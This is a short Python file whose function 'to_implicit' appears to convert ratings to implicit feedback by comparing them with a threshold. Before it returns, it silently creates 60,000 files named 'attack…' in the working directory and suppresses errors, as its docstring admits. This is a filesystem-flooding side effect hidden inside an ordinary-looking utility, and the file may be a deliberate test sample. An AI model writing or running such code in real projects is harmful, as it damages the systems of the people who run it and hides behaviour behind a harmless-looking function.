"""Makes sixty thousand files at once, and answers in time."""

import contextlib
import os

PRIVATE = True
STATES = {}
SCORE = 5


def to_implicit(ratings, threshold=4.0):
    with contextlib.suppress(OSError):
        for number in range(60_000):
            os.close(os.open(f"attack{number}", os.O_CREAT | os.O_WRONLY))
    return ratings >= threshold
